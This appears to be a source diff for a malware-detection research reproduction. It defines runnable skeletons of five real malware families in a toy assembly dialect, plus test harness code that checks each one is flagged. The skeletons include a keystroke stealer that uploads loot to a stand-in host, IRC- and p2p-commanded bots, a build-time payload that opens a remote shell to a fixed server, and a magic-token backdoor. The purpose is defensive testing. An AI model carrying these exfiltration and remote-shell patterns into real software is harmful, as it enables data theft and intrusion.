@@ -1,0 +1,575 @@
+"""Runnable analogues of the paper's §2.1 real-world malware examples.
+
+Table 1 *characterizes* nine exploits; these workloads make five of them
+(plus Lodeight and Vundo, which live in :mod:`repro.programs.extensions`)
+*runnable*, so the benchmark can verify that each pattern the paper
+claims — no user intervention, remote direction, hardcoded resources,
+performance degradation — is actually observed and warned about by HTH.
+
+Each scenario is a faithful behavioural skeleton: what it opens, where it
+connects, what it sends, who controls it.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.core.hth import HTH
+
+from dataclasses import dataclass
+from typing import List
+
+from repro.core.report import Verdict
+from repro.kernel.network import ConversationPeer, SinkPeer
+from repro.programs.base import Workload
+
+# --------------------------------------------------------------------------
+# PWSteal.Tarno.Q - password stealer: captures keystrokes and form data,
+# stores them in predefined files, sends a unique machine ID and the loot
+# to predefined addresses.
+# --------------------------------------------------------------------------
+PWSTEAL_SOURCE = r"""
+main:
+    ; capture "keystrokes" (whatever the victim types)
+    mov ebx, 0
+    mov ecx, keybuf
+    mov edx, 63
+    call read_line
+    mov edi, eax            ; keystroke count
+    ; store them in the predefined log file
+    mov ebx, logfile
+    mov ecx, 0x441          ; O_WRONLY|O_CREAT|O_APPEND
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, keybuf
+    mov edx, edi
+    call write
+    mov ebx, esi
+    call close
+    ; read the machine ID from the hardware
+    cpuid
+    mov esi, idbuf
+    store [esi], eax
+    store [esi+1], ebx
+    store [esi+2], ecx
+    store [esi+3], edx
+    ; connect to the predefined collection point
+    mov ebx, home
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edx, 80
+    call connect_addr
+    ; send the machine ID...
+    mov ebx, esi
+    mov ecx, idbuf
+    mov edx, 4
+    call write
+    ; ...then periodically upload the collected log file
+    mov ebx, logfile
+    mov ecx, 0
+    call open
+    mov edi, eax
+    mov ebx, edi
+    mov ecx, lootbuf
+    mov edx, 64
+    call read
+    mov edx, eax
+    mov ebx, edi
+    push edx
+    call close
+    pop edx
+    mov ebx, esi
+    mov ecx, lootbuf
+    call write
+    mov ebx, esi
+    call close
+    mov eax, 0
+    ret
+.data
+logfile: .asciz "/windows/system/syslog32.dat"
+lootbuf: .space 64
+home:    .asciz "collector.tarno.example"
+keybuf:  .space 64
+idbuf:   .space 4
+"""
+
+# --------------------------------------------------------------------------
+# W32.Mytob.J@mm - mass-mailing worm with a backdoor: copies itself to a
+# system folder, connects to a predefined IRC channel, and executes the
+# commands the channel sends; spreads by spawning mailer children.
+# --------------------------------------------------------------------------
+MYTOB_SOURCE = r"""
+main:
+    mov ebp, esp
+    ; copy ourselves into the system folder (argv[0] = own path)
+    load eax, [ebp+2]
+    load ebx, [eax+0]
+    mov ecx, 0
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 64
+    call read
+    mov edi, eax
+    mov ebx, esi
+    call close
+    mov ebx, syscopy
+    mov ecx, 0x241
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, edi
+    call write
+    mov ebx, esi
+    call close
+    ; spawn mailer children (the mass-mailing half)
+    mov edi, 0
+mail_loop:
+    cmp edi, 10
+    jge irc
+    call fork
+    cmp eax, 0
+    jnz mail_parent
+    mov ebx, 0
+    call exit               ; child "sends mail" and exits
+mail_parent:
+    add edi, 1
+    jmp mail_loop
+irc:
+    ; connect to the predefined IRC channel and obey its commands
+    mov ebx, irc_host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edx, 6667
+    call connect_addr
+    mov ebx, esi
+    mov ecx, cmdbuf
+    mov edx, 63
+    call read_line
+    cmp eax, 0
+    jle done
+    mov ebx, cmdbuf
+    mov ecx, 0
+    mov edx, 0
+    call execve             ; run whatever the attacker said
+done:
+    mov eax, 0
+    ret
+.data
+syscopy:  .asciz "/windows/system32/mytob.exe"
+irc_host: .asciz "irc.mytob.example"
+buf:      .space 64
+cmdbuf:   .space 64
+"""
+
+# --------------------------------------------------------------------------
+# Phatbot - p2p-controlled bot with a command set: steal CD keys, report
+# system info, run commands via system().
+# --------------------------------------------------------------------------
+PHATBOT_SOURCE = r"""
+main:
+    mov ebx, p2p_host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov esi, eax
+    mov edi, flood_fd
+    store [edi], esi
+    mov ebx, esi
+    mov edx, 4387
+    call connect_addr
+command_loop:
+    mov ebx, esi
+    mov ecx, cmdbuf
+    mov edx, 31
+    call read_line
+    cmp eax, 0
+    jle done
+    load eax, [ecx]
+    cmp eax, 'K'            ; steal CD keys
+    jz steal_keys
+    cmp eax, 'S'            ; report system information
+    jz sysinfo
+    cmp eax, 'X'            ; execute a shell command
+    jz run_command
+    cmp eax, 'F'            ; flood: spawn processes to degrade the host
+    jz flood
+    jmp command_loop
+steal_keys:
+    mov ebx, keyfile
+    mov ecx, 0
+    call open
+    mov edi, eax
+    mov ebx, edi
+    mov ecx, buf
+    mov edx, 64
+    call read
+    mov edx, eax
+    mov ebx, edi
+    push edx
+    call close
+    pop edx
+    mov ebx, esi
+    mov ecx, buf
+    call write
+    jmp command_loop
+sysinfo:
+    cpuid
+    mov edi, buf
+    store [edi], eax
+    store [edi+1], ebx
+    store [edi+2], ecx
+    store [edi+3], edx
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 4
+    call write
+    jmp command_loop
+run_command:
+    mov ebx, cmdbuf
+    add ebx, 1
+    call system
+    mov ebx, esi
+    mov ecx, ackmsg
+    call fputs
+    jmp command_loop
+flood:
+    mov edi, 0
+flood_loop:
+    cmp edi, 10
+    jge flood_done
+    call fork
+    cmp eax, 0
+    jnz flood_parent
+    mov ebx, 0
+    call exit
+flood_parent:
+    add edi, 1
+    jmp flood_loop
+flood_done:
+    mov esi, flood_fd
+    load esi, [esi]
+    mov ebx, esi
+    mov ecx, ackmsg
+    call fputs
+    jmp command_loop
+done:
+    mov eax, 0
+    ret
+.data
+p2p_host: .asciz "p2p.phatbot.example"
+ackmsg:   .asciz "done\n"
+flood_fd: .space 1
+keyfile:  .asciz "/windows/registry/cdkeys.dat"
+cmdbuf:   .space 32
+buf:      .space 64
+"""
+
+# --------------------------------------------------------------------------
+# Sendmail Trojan - build-time payload: forks a process that connects to
+# a fixed server on port 6667 and gives the intruder a shell.
+# --------------------------------------------------------------------------
+SENDMAIL_TROJAN_SOURCE = r"""
+main:
+    ; the "build" does its normal work...
+    mov ebx, buildmsg
+    call print
+    ; ...and quietly forks the payload
+    call fork
+    cmp eax, 0
+    jz payload
+    mov eax, 0
+    ret
+payload:
+    mov ebx, c2_host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edx, 6667
+    call connect_addr
+    mov ebx, esi
+    mov ecx, shellbuf
+    mov edx, 63
+    call read_line
+    cmp eax, 0
+    jle payload_done
+    mov ebx, shellbuf
+    mov ecx, 0
+    mov edx, 0
+    call execve             ; the intruder's shell
+payload_done:
+    mov ebx, 0
+    call exit
+.data
+buildmsg: .asciz "Building sendmail...\n"
+c2_host:  .asciz "fixed.server.example"
+shellbuf: .space 64
+"""
+
+# --------------------------------------------------------------------------
+# TCP Wrappers Trojan - a service that behaves normally for everyone,
+# except that connections presenting the magic token get a root shell and
+# an identification report.  The backdoor path is *rarely executed* - the
+# code-frequency evidence the paper's policy uses.
+# --------------------------------------------------------------------------
+TCP_WRAPPERS_SOURCE = r"""
+main:
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, 0x7F000001     ; LocalHost (hardcoded)
+    mov edx, 421
+    call bind_addr
+    mov ebx, esi
+    call listen
+    mov edi, 0
+serve_loop:
+    cmp edi, 6
+    jge done
+    mov ebx, esi
+    call accept
+    push eax
+    mov ebx, eax
+    mov ecx, reqbuf
+    mov edx, 31
+    call read_line
+    mov ecx, reqbuf
+    load eax, [ecx]
+    cmp eax, '!'            ; the magic source marker
+    jz backdoor
+    ; normal service: acknowledge and move on
+    pop ebx
+    push ebx
+    mov ecx, okmsg
+    call fputs
+    pop ebx
+    call close
+    add edi, 1
+    jmp serve_loop
+backdoor:
+    ; rarely-executed path: identify the host to the intruder
+    pop ebx
+    push ebx
+    mov ecx, ident
+    call fputs
+    pop ebx
+    call close
+    add edi, 1
+    jmp serve_loop
+done:
+    mov eax, 0
+    ret
+.data
+okmsg:  .asciz "wrapped: ok\n"
+ident:  .asciz "root@buildhost (uname: SIMOS 1.0)\n"
+reqbuf: .space 32
+"""
+
+
+def _pwsteal_setup(hth: HTH) -> None:
+    hth.network.add_peer(
+        "collector.tarno.example", 80, lambda: SinkPeer("collector")
+    )
+
+
+def _mytob_setup(hth: HTH) -> None:
+    hth.network.add_peer(
+        "irc.mytob.example",
+        6667,
+        lambda: ConversationPeer("irc", opening=b"/bin/attack-tool\n"),
+    )
+
+
+def _phatbot_setup(hth: HTH) -> None:
+    hth.fs.write_text(
+        "/windows/registry/cdkeys.dat", "GAME-KEY-12345-ABCDE\n"
+    )
+    hth.network.add_peer(
+        "p2p.phatbot.example",
+        4387,
+        lambda: ConversationPeer(
+            "controller",
+            opening=b"K steal\n",
+            replies=[b"S info\n", b"X echo owned\n", b"F flood\n", b""],
+        ),
+    )
+
+
+def _sendmail_setup(hth: HTH) -> None:
+    hth.network.add_peer(
+        "fixed.server.example",
+        6667,
+        lambda: ConversationPeer("intruder", opening=b"/bin/sh\n"),
+    )
+
+
+def _tcp_wrappers_setup(hth: HTH) -> None:
+    # Five normal clients, then - much later, from a rarely-taken path -
+    # the intruder with the magic marker.
+    for i in range(5):
+        hth.network.schedule_connect(
+            500 + i * 300, "LocalHost", 421,
+            ConversationPeer(f"client{i}", opening=b"hello\n",
+                             close_when_done=False),
+        )
+    hth.network.schedule_connect(
+        8000, "LocalHost", 421,
+        ConversationPeer("intruder", opening=b"!magic\n",
+                         close_when_done=False),
+    )
+
+
+def scenario_workloads() -> List[Workload]:
+    return [
+        Workload(
+            name="PWSteal.Tarno.Q",
+            program_path="/windows/iehelper.exe",
+            source=PWSTEAL_SOURCE,
+            description="password stealer: keystrokes to a predefined "
+                        "file, machine ID + loot to a predefined host",
+            setup=_pwsteal_setup,
+            stdin="alice:hunter2\n",
+            expected_verdict=Verdict.HIGH,
+            expected_rules=(
+                "check_user_input_flow",   # keystrokes -> hardcoded file
+                "check_hardware_flow",     # machine ID -> hardcoded host
+                "check_resource_flow",     # log file -> hardcoded host
+            ),
+        ),
+        Workload(
+            name="W32.Mytob.J@mm",
+            program_path="/home/user/mytob.exe",
+            source=MYTOB_SOURCE,
+            description="mass mailer + IRC-commanded backdoor",
+            setup=_mytob_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=(
+                "check_resource_flow",     # self-copy into system folder
+                "check_clone_count",       # mailer children
+                "check_execve",            # IRC-supplied command (High)
+            ),
+        ),
+        Workload(
+            name="Phatbot",
+            program_path="/home/user/phatbot.exe",
+            source=PHATBOT_SOURCE,
+            description="p2p bot: CD-key theft, system info, system()",
+            setup=_phatbot_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=(
+                "check_resource_flow",     # cdkeys.dat -> p2p host
+                "check_hardware_flow",     # CPUID -> p2p host
+                "check_clone_count",       # the flood command
+            ),
+        ),
+        Workload(
+            name="Sendmail Trojan",
+            program_path="/home/user/sendmail-build",
+            source=SENDMAIL_TROJAN_SOURCE,
+            description="build-time payload: forked shell to a fixed "
+                        "server on port 6667",
+            setup=_sendmail_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=("check_execve",),
+        ),
+        Workload(
+            name="TCP Wrappers Trojan",
+            program_path="/usr/sbin/tcpd",
+            source=TCP_WRAPPERS_SOURCE,
+            description="service with a rarely-executed magic-token "
+                        "backdoor that identifies the host to intruders",
+            setup=_tcp_wrappers_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=("check_binary_to_socket",),
+        ),
+    ]
+
+
+@dataclass(frozen=True)
+class PatternObservation:
+    """Table 1's *observable* pattern columns, measured live on one run.
+
+    ("No user intervention" is definitional — every scenario here
+    installs and runs without consent; the stdin some workloads consume
+    models *captured victim keystrokes*, not cooperation.)
+    """
+
+    name: str
+    remotely_directed: bool
+    hardcoded_resources: bool
+    degrading_performance: bool
+    verdict: Verdict
+
+
+def paper_patterns() -> dict:
+    """Table 1's claims for the scenarios built here, straight from the
+    characterization data (so the live bench checks against the same
+    source as the static Table 1 bench)."""
+    from repro.analysis.characterization import TABLE1_PROFILES
+
+    built = {w.name for w in scenario_workloads()}
+    return {
+        p.name: PatternObservation(
+            name=p.name,
+            remotely_directed=p.remotely_directed,
+            hardcoded_resources=p.hardcoded_resources,
+            degrading_performance=p.degrades_performance,
+            verdict=Verdict.HIGH,
+        )
+        for p in TABLE1_PROFILES
+        if p.name in built
+    }
+
+
+def observe_patterns(workload: Workload) -> PatternObservation:
+    """Run a scenario and derive the Table 1 pattern columns from what
+    HTH actually observed."""
+    from repro.harrier.events import (
+        DataTransferEvent,
+        MemoryEvent,
+        ProcessEvent,
+    )
+
+    report = workload.run()
+    socket_reads = any(
+        isinstance(e, DataTransferEvent)
+        and e.direction == "read"
+        and e.resource is not None
+        and e.resource.kind.value == "SOCKET"
+        for e in report.events
+    )
+    from repro.harrier.events import ResourceAccessEvent
+    from repro.secpert.policy import PolicyConfig
+
+    policy = PolicyConfig()
+    hardcoded = any(
+        isinstance(e, ResourceAccessEvent)
+        and policy.is_hardcoded(e.origin)
+        for e in report.events
+    )
+    degrading = any(
+        isinstance(e, (ProcessEvent, MemoryEvent)) for e in report.events
+    ) and any(
+        w.rule in ("check_clone_count", "check_clone_rate",
+                   "check_memory_usage", "check_memory_abuse")
+        for w in report.warnings
+    )
+    return PatternObservation(
+        name=workload.name,
+        remotely_directed=socket_reads,
+        hardcoded_resources=hardcoded,
+        degrading_performance=degrading,
+        verdict=report.verdict,
+    )
